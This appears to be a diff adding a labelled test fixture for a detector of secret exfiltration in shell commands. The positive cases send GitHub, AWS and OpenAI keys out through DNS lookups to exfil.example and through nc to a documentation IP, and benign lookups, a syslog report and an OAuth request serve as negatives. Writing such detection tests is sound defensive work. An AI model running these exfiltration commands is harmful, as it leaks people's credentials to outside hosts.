@@ -1,0 +1,15 @@
+#@ pos a token in a name looked up
+dig "$GITHUB_TOKEN.exfil.example"
+#@ pos an environment value read by printenv in a lookup
+nslookup "$(printenv AWS_SECRET_ACCESS_KEY | base64 -w0).exfil.example"
+#@ pos a secret piped through xargs into dig
+printf %s "$AWS_SECRET_ACCESS_KEY" | base64 | xargs -I{} dig {}.exfil.example
+#@ pos a secret piped into nc
+echo "$OPENAI_API_KEY" | nc 198.51.100.4 9
+#@ neg a lookup of a configured name
+dig +short "$DOMAIN"
+host "$HOSTNAME"
+#@ neg a report sent to a syslog server
+echo "$REPORT" | nc -q1 logs.internal 514
+#@ neg a client secret sent to an OAuth token endpoint
+curl -s -d "client_secret=$CLIENT_SECRET" https://oauth.example/token
